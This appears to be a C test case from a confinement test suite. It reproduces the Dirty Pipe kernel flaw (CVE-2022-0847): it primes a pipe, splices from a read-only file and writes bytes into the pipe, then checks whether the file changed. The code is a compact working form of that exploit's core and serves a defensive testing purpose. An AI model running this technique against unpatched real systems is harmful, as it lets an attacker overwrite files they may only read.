// Route: changes pages of a file that it may only read through a pipe
// Known from: CVE-2022-0847 (kernel, "Dirty Pipe")
// Refused: unchanged
// Twin: moves bytes of the file through the pipe
// Unconfined: cannot run: the kernels of today copy the page, which is a refusal too
#include "attempt.h"
int main(void) {
  int ends[2];
  char page[4096] = {0}, now[8] = {0};
  loff_t offset = 0;
  pipe(ends);
  for (int i = 0; i < 16; i++) write(ends[1], page, sizeof page);
  for (int i = 0; i < 16; i++) read(ends[0], page, sizeof page);
  int file = open(at("READ", "/file"), O_RDONLY);
  twin(splice(file, &offset, ends[1], NULL, 1, 0));
  write(ends[1], "hanged", 6);
  pread(file, now, 7, 0);
  answer("attempt", strcmp(now, "content") == 0 ? "unchanged" : "ok");
}
